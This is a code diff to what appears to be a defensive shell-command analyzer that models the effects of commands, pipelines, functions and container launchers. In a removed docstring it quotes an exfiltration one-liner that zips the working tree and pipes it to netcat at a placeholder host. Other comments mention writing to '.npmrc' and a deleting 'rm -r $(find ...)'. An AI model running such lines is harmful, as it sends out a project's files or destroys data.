@@ -54,6 +54,7 @@ from hookd.enrich.shell.tree import (
     pipes_into_itself,
     with_assigns,
 )
+from hookd.enrich.shell.views import launched_in
 from hookd.enrich.shell.words import LITERAL_MARK, _dynamic
 from hookd.enrich.shell.wrappers import (
     _INLINE,
@@ -99,10 +100,9 @@ class _Builder(BuilderState):
         feed: tuple[str | None, str],
         redirects: list[dict[str, Any]] | None = None,
     ) -> str:
-        """A function's body, run with its arguments as the positional parameters (`$1`, `$@`); a body of one
-        command reads what the call reads (`feed`: the text and origin of its stdin) and prints what it prints,
-        into the call's redirections (`f 'k=v' >> .npmrc` with `f(){ printf "$@"; }` writes k=v there), and what
-        its standard output is is the call's (`f(){ zip "$@"; }; f -qr - . | nc h p` sends the tree)."""
+        """A function's body, run with its arguments as the positional parameters (`$1`, `$@`); a body of one command
+        reads what the call reads (`feed`: its stdin's text and origin) and prints what it prints, into the call's
+        redirections (`f 'k=v' >> .npmrc`, `f(){ printf "$@"; }`); its standard output is the call's."""
         single = one_command(_Block(body.items, subshell=False, redirects=body.redirects))
         inherited = list(redirects or [])
         with self.state.call_frame(args):
@@ -158,8 +158,7 @@ class _Builder(BuilderState):
             for position, element in enumerate(item.elements[:-1]):
                 part(position, element, cwd.copy())
             self.state.restore()
-            # the last part runs in the shell itself under `shopt -s lastpipe` (which the agent's shell may have
-            # set before the line): what it sets and where it goes are not known after it
+            # the last part runs in this shell under `shopt -s lastpipe`: what it sets is not known after it
             last = len(item.elements) - 1
             choices.uncertain(self.state, lambda: part(last, item.elements[last], cwd), cwd, False)
             origin = piped[1]
@@ -361,25 +360,27 @@ class _Builder(BuilderState):
         privileged = sudo or any(raises_privilege(w) for w in wrappers)
         if inherited:
             redirects.extend(dict(r) for r in inherited)
-        command = {
-            "argv": argv,
-            "name": name,
-            "env": env,
-            "sudo": privileged,
-            "wrappers": wrappers,
-            "pipeline": slot[0],
-            "position": slot[1],
-            "depth": depth,
-            "redirects": redirects,
-            "args": self.state.args(operands(argv), cwd),
-            "cwd": cwd.path if cwd.known else "",  # after `cd`, `env -C`, `sudo -D` (analysis keeps another one)
-        }
-        self.commands.append(command)
-        made = {self.walk(sub, depth, cwd, None, [], sudo) for sub in simple.subs} if simple.subs else set()
-        substituted = next((kind for kind in ("fetch", "decode") if kind in made), "") if made else ""
-        self._fed = fed
-        start = len(self.model.effects)
-        out = self._after(command, simple, words, env, depth, cwd, (sudo, privileged), stdin, (origin, substituted))
+        with launched_in(self.state, words, argv, wrappers, cwd.path) as view:
+            command = {
+                "argv": argv,
+                "name": name,
+                "env": env,
+                "sudo": privileged,
+                "wrappers": wrappers,
+                "pipeline": slot[0],
+                "position": slot[1],
+                "depth": depth,
+                "redirects": redirects,
+                "args": self.state.args(operands(argv), cwd),
+                "cwd": cwd.path if cwd.known else "",  # after `cd`, `env -C`, `sudo -D` (analysis keeps another one)
+                **({"view": view} if view else {}),  # (a launcher's binds: its paths the host's, as a container's)
+            }
+            self.commands.append(command)
+            made = {self.walk(sub, depth, cwd, None, [], sudo) for sub in simple.subs} if simple.subs else set()
+            substituted = next((kind for kind in ("fetch", "decode") if kind in made), "") if made else ""
+            self._fed = fed
+            start = len(self.model.effects)
+            out = self._after(command, simple, words, env, depth, cwd, (sudo, privileged), stdin, (origin, substituted))
         if found:  # `rm -r $(find d -name x)`: a change of what the search selects, as `find d -name x -exec rm`
             selected(self.model.effects, start, set(found.values()))
         self._traps_again()
@@ -397,8 +398,7 @@ class _Builder(BuilderState):
         stdin: str | None,
         origins: tuple[str, str],
     ) -> str:
-        """What a command does beyond its own words: its effects, what it runs, the shell state it changes.
-        `origins`: what its stdin is, and what its substitutions print (fetch, decode or "")."""
+        """A command's effects, what it runs, the shell state it changes; `origins`: its stdin's, its substitutions'."""
         privileged = privileges[1]
         origin, substituted = origins
         fed = self._fed  # (a function's body of one command is fed what its call is)
